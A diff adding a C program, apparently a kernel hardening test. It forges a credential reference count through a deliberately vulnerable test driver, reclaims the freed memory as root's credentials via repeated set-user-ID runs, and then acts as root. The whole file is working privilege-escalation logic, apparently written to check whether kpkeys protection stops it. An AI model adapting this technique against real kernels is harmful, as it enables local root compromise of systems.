@@ -1,0 +1,150 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Forge the count of references to credentials, so that they are freed while a
+ * process has them, and have the kernel take the memory for those of root: a
+ * program that is set-user-ID root runs many times. Several processes try.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <signal.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "common.h"
+
+#define CANDIDATES	16
+#define PROGRAMS	16
+#define ROUNDS		40
+
+static void nap(long ms)
+{
+	const struct timespec pause = { .tv_nsec = ms * 1000 * 1000 };
+
+	nanosleep(&pause, NULL);
+}
+
+static pid_t fork_or_die(void)
+{
+	pid_t pid = fork();
+
+	if (pid < 0)
+		die_errno("fork");
+	return pid;
+}
+
+/*
+ * Have a process with other credentials close the last file that has these. A
+ * pipe to tell it when would be another such file.
+ */
+static void drop_a_reference(u64 usage)
+{
+	int file = open("/proc/self/stat", O_RDONLY), status, received;
+	sigset_t go;
+	pid_t pid;
+
+	if (file < 0)
+		die_errno("opening a file");
+	sigemptyset(&go);
+	sigaddset(&go, SIGUSR1);
+	sigprocmask(SIG_BLOCK, &go, NULL);
+	pid = fork_or_die();
+	if (!pid) {
+		sigwait(&go, &received);
+		close(file);
+		_exit(0);
+	}
+	close(file);
+	vuln_write(usage, 1);
+	if (kill(pid, SIGUSR1) || waitpid(pid, &status, 0) != pid)
+		die_errno("dropping a reference");
+	if (WIFSIGNALED(status))
+		exit(EXIT_OUT_OF_REACH);
+}
+
+/* Asked of the driver: system calls look at more than these words. */
+static bool is_root(u64 usage, u64 uid)
+{
+	return (int64_t)vuln_read(usage) > 0 &&
+	       vuln_read(uid + 2 * sizeof(u64)) == (u64)ATTACKER_UID << 32;
+}
+
+static noreturn void be_a_candidate(const char *prize)
+{
+	struct kpkeys_vuln_creds creds = vuln_creds();
+	u64 uid = vuln_cred();
+	int i;
+
+	setsid();
+	drop_a_reference(creds.usage);
+	for (i = 0; i < ROUNDS * 10; i++, nap(20)) {
+		/* The count may be elsewhere, with a pointer to it. */
+		creds = vuln_creds();
+		if (!is_root(creds.usage, uid))
+			continue;
+		/* Let nobody free them when they go away. */
+		vuln_write(creds.usage, vuln_read(creds.usage) + 1000);
+		steal_and_alter_as_root(prize);
+		_exit(0);
+	}
+	/* Whose credentials are free memory must not end. */
+	close(FD_LOOT);
+	for (;;)
+		pause();
+}
+
+/* It needs to do nothing but to have credentials. */
+static void run_programs_of_root(void)
+{
+	int i;
+
+	for (i = 0; i < PROGRAMS; i++) {
+		if (fork_or_die())
+			continue;
+		execl(ROOT_PROGRAM, ROOT_PROGRAM, NULL);
+		_exit(1);
+	}
+}
+
+/* How the first candidate ended, or -1. */
+static int candidate_ended(const pid_t candidates[CANDIDATES])
+{
+	int status, i;
+	pid_t pid;
+
+	while ((pid = waitpid(-1, &status, WNOHANG)) > 0)
+		for (i = 0; i < CANDIDATES; i++)
+			if (candidates[i] == pid)
+				return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
+	return -1;
+}
+
+int main(int argc, char **argv)
+{
+	pid_t candidates[CANDIDATES];
+	int i, how = -1;
+
+	if (!geteuid()) {
+		nap(150);
+		return 0;
+	}
+
+	for (i = 0; i < CANDIDATES; i++) {
+		candidates[i] = fork_or_die();
+		if (!candidates[i])
+			be_a_candidate(argc > 1 ? argv[1] : "");
+	}
+	for (i = 0; i < ROUNDS && how < 0; i++) {
+		nap(100);
+		run_programs_of_root();
+		nap(200);
+		how = candidate_ended(candidates);
+	}
+	if (how == EXIT_OUT_OF_REACH)
+		out_of_reach("the credentials are in use, whatever their count says");
+	if (how)
+		die("the memory did not become credentials of root");
+	return 0;
+}
